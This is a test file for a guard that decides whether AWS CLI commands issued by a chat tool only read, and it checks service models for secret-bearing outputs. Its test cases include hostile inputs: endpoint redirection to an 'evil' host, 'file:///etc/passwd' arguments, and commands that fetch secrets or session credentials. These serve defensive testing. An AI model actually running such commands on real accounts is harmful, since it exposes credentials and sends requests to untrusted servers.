import { describe, expect, test } from "vitest";
import { whyAwsWrites } from "../../../../src/chat/tools/built-in/aws-reads.ts";
import { askPython, needBotocore } from "../../../helpers/botocore.ts";
import { isThorough } from "../../../helpers/thorough.ts";

/** Every command of the AWS CLI that is here: whether it streams into a file, and what in its answer is a secret. */
const LIST_COMMANDS = `
import json, re, sys
from awscli.clidriver import ServiceCommand, ServiceOperation, create_clidriver

asked = json.load(sys.stdin)
SECRET = re.compile(asked["secret"], re.I)

UPLOAD = re.compile(asked["upload"], re.I)

# What stands in something that is a secret is one, too.
def secrets(shape, seen, path, inherited=False):
    if shape is None or shape.name in seen:
        return
    seen = seen | {shape.name}
    if shape.type_name == "structure":
        members = shape.members.items()
    elif shape.type_name in ("list", "map"):
        members = [("", shape.member if shape.type_name == "list" else shape.value)]
    else:
        return
    for name, member in members:
        at = path + [name] if name else path
        sensitive = inherited or bool(member.metadata.get("sensitive"))
        if at and (sensitive and SECRET.search(at[-1]) or UPLOAD.search(".".join(at))):
            yield ".".join(at)
        yield from secrets(member, seen, at, sensitive)

def walk(path, command):
    if isinstance(command, ServiceCommand):
        for name, below in command._get_command_table().items():
            yield from walk(path + [name], below)
    elif isinstance(command, ServiceOperation):
        model = command._operation_model
        yield {
            "command": " ".join(path),
            "method": model.http.get("method"),
            "streams": model.has_streaming_output,
            "secrets": list(secrets(model.output_shape, frozenset(), [])),
        }
    else:
        yield {"command": " ".join(path), "isOwn": True}
        for name, below in getattr(command, "subcommand_table", {}).items():
            yield from walk(path + [name], below)

table = create_clidriver()._get_command_table().items()
kept = [item for item in table if item[0] in asked["services"] or not asked["services"]]
print(json.dumps([row for name, command in kept for row in walk([name], command)]))
`;

interface Command {
  command: string;
  method?: string;
  streams?: boolean;
  secrets?: string[];
  isOwn?: boolean;
}

/** Those that are used most, and what is told apart in them. */
const SERVICES = [
  "amplifybackend",
  "apigateway",
  "cognito-idp",
  "configservice",
  "configure",
  "dataexchange",
  "dynamodb",
  "ec2",
  "ecr",
  "eks",
  "emr",
  "gamelift",
  "history",
  "iam",
  "ivs",
  "kms",
  "lambda",
  "lightsail",
  "logs",
  "mailmanager",
  "rds",
  "s3",
  "s3api",
  "secretsmanager",
  "ssm",
  "sts",
];

/** Names of what opens something; page tokens and the names of secrets do not. */
const SECRET =
  "^(?!.*(next_?token|arn|secretid|accesskeyid|maxtoken|(in|out)puttoken|(first|second)?blocktoken))" +
  ".*(password|secret|credential|token|private_?key|plaintext|api_?key|key_?material|access_?key|shared_?key|passphrase|connectionstring)";

/** The addresses at which whoever has them puts something for the account. */
const UPLOAD = "import.*signed_?url$";

/** What has a place for a secret in its answer, and answers with asterisks, with where it is kept, or with nothing there. */
const EMPTY =
  /^(?:dms describe-endpoints|ecs describe-.*task-definition|apprunner describe-service|fsx describe-.*|(?:rds|redshift) describe-.*)$/;

const split = (line: string): string[] =>
  line.match(/'[^']*'|\S+/g)?.map((word) => word.replaceAll("'", "")) ?? [];

describe("a call of the AWS CLI", () => {
  test.each([
    "sts get-caller-identity",
    "ec2 describe-instances --instance-ids i-1 i-2 --query 'Reservations[].Instances[]'",
    "--region eu-west-1 --output=json ec2 describe-instances",
    "ec2 --region eu-west-1 describe-instances",
    "ec2 describe-instances --region eu-west-1 --filters Name=tag:a,Values=https://b",
    "s3 ls",
    "s3 ls s3://bucket/logs/ --recursive",
    "s3 cp s3://bucket/key -",
    "s3 cp s3://bucket/key - --region us-east-1",
    "s3api list-objects-v2 --bucket b",
    "s3api head-object --bucket b --key k",
    "logs filter-log-events --log-group-name g --filter-pattern error",
    "logs tail g --since 1h",
    "dynamodb query --table-name t",
    "dynamodb batch-get-item --request-items {}",
    "ssm get-parameter --name n",
    "iam simulate-principal-policy --policy-source-arn a --action-names b",
    "iam get-account-password-policy",
    "iam list-access-keys",
    "apigateway get-api-keys",
    "ecs describe-clusters --include TAGS",
    "sqs get-queue-attributes --queue-url https://sqs.us-east-1.amazonaws.com/1/q",
    "cloudformation get-template-summary --template-url https://s3.amazonaws.com/b/t",
    "ec2 wait instance-running --instance-ids i-1",
    "configure list",
    "configservice get-status",
    "--version",
    "help",
    "ec2 help",
    "ec2 run-instances help",
  ])("only reads: %s", (line) => {
    expect(whyAwsWrites(split(line))).toBeUndefined();
  });

  test.each([
    ["", "known"],
    ["ec2", "known"],
    ["ec2 run-instances", "known"],
    ["ec2 run-instances --dry-run", "known"],
    ["ec2 terminate-instances --instance-ids help", "known"],
    ["ec2 Describe-instances", "known"],
    ["ec2 get", "known"],
    ["ec2 wait", "name"],
    ["nothing -x describe-instances", "known"],
    ["-- ec2 describe-instances", "known"],
    ["--debug ec2 describe-instances", "known"],
    ["--endpoint-url http://evil ec2 describe-instances", "known"],
    ["ec2 describe-instances -- x", "'--'"],
    ["ec2 describe-instances --debug", "signs"],
    ["ec2 describe-instances --deb", "signs"],
    ["ec2 describe-instances --endpoint-url http://evil", "another server"],
    ["ec2 describe-instances --endpoint-url=http://evil", "another server"],
    ["ec2 describe-instances --end http://evil", "another server"],
    ["ec2 describe-instances --profile admin", "somebody else"],
    ["ec2 describe-instances --prof=admin", "somebody else"],
    ["ec2 describe-instances --no-verify-ssl", "any server"],
    ["ec2 describe-instances --ca-bundle x", "certificates"],
    ["ec2 describe-instances --region evil.com/", "region"],
    ["ec2 describe-instances --region=evil.com/", "region"],
    ["ec2 describe-instances --reg evil.com/", "region"],
    ["--region evil.com/ ec2 describe-instances", "region"],
    ["ec2 describe-instances --cli-input-json {}", "elsewhere"],
    ["ec2 describe-instances --cli-auto-prompt", "keyboard"],
    ["ec2 describe-instances --instance-ids file:///etc/passwd", "file"],
    ["ec2 describe-instances --instance-ids=file://x", "file"],
    ["ec2 describe-instances --instance-ids fileb://x", "file"],
    ["ec2 describe-instances --filters Name@=file://x", "file"],
    ["ec2 describe-instances --query file://x", "file"],
    ["ec2 describe-instances --instance-ids http://evil/", "web"],
    ["ec2 describe-instances --instance-ids=https://evil/", "web"],
    ["ec2 describe-instances --filters Name@=https://evil/", "web"],
    ["sqs get-queue-attributes --attribute-names https://evil/", "web"],
    ["s3api get-object --bucket b --key k out", "writes a file"],
    ["s3 cp s3://b/k out", "known"],
    ["s3 cp - s3://b/k", "known"],
    ["s3 cp s3://b/k - out", "known"],
    ["s3 cp s3://b/k - --recursive", "known"],
    ["s3 cp s3://b/k - --endpoint-url http://evil", "another server"],
    ["s3 cp file://x -", "file"],
    ["s3 sync s3://b .", "known"],
    ["s3 presign s3://b/k", "known"],
    ["s3 rm s3://b/k", "known"],
    ["secretsmanager get-secret-value --secret-id s", "secrets"],
    ["secretsmanager batch-get-secret-value", "secrets"],
    ["ssm get-parameter --name n --with-decryption", "secrets"],
    ["ssm get-parameters-by-path --path / --with-decr", "secrets"],
    ["apigateway get-api-keys --include-values", "keys"],
    ["apigateway get-api-key --api-key k --include", "keys"],
    ["sts get-session-token", "credentials"],
    ["sts assume-role", "known"],
    ["sso get-role-credentials", "credentials"],
    ["ecr get-login-password", "credentials"],
    ["ecr get-authorization-token", "credentials"],
    ["eks get-token --cluster-name c", "credentials"],
    ["cognito-identity get-credentials-for-identity", "credentials"],
    ["lightsail get-instance-access-details", "credentials"],
    ["ec2 get-password-data", "credentials"],
    ["redshift get-cluster-credentials", "credentials"],
    ["amplifybackend get-backend-auth", "credentials"],
    ["finspace get-kx-connection-string", "credentials"],
    ["ivs get-channel --arn a", "credentials"],
    ["cognito-idp list-user-import-jobs", "credentials"],
    ["kms decrypt", "known"],
    ["codecommit credential-helper get", "known"],
    ["configure get aws_secret_access_key", "known"],
    ["configure export-credentials", "known"],
    ["configure set region x", "known"],
    ["history show", "known"],
    ["emr get --src x", "known"],
    ["gamelift get-game-session-log --save-as x", "writes a file"],
    ["lambda invoke --function-name f out", "known"],
    ["dynamodb execute-statement --statement x", "known"],
    ["timestream-query query --query-string x", "known"],
    ["stepfunctions get-activity-task", "known"],
  ])("does more: %s", (line, why) => {
    expect(whyAwsWrites(split(line))).toContain(why);
  });

  test("only reads where the models of the services say so", { timeout: 120_000 }, async (context) => {
    needBotocore(context);
    // All of them take half a minute.
    const services = isThorough ? [] : SERVICES;
    const commands = (await askPython(LIST_COMMANDS, {
      secret: SECRET,
      upload: UPLOAD,
      services,
    })) as Command[];
    expect(commands.length).toBeGreaterThan(isThorough ? 15_000 : 1500);
    const reading = commands.filter(({ command }) => whyAwsWrites(command.split(" ")) === undefined);
    const named = (rows: readonly Command[]): string[] => rows.map(({ command }) => command);
    // Many do: what AWS has to be read is no use otherwise.
    expect(reading.length).toBeGreaterThan(commands.length / 3);
    expect(named(reading.filter(({ streams }) => streams))).toEqual([]);
    expect(named(reading.filter(({ method = "GET" }) => !["GET", "HEAD", "POST"].includes(method)))).toEqual(
      [],
    );
    // Waiting prints nothing of an answer.
    const telling = reading.filter(({ command }) => !command.includes(" wait ") && !EMPTY.test(command));
    expect(telling.filter(({ secrets = [] }) => secrets.length > 0)).toEqual([]);
    // What the CLI adds to the services by itself.
    const own = new Set([
      "datapipeline list-runs",
      "emr describe-cluster",
      "s3 ls",
      "configure list",
      "configservice get-status",
    ]);
    expect(named(reading.filter(({ isOwn }) => isOwn)).filter((command) => !own.has(command))).toEqual([]);
  });
});
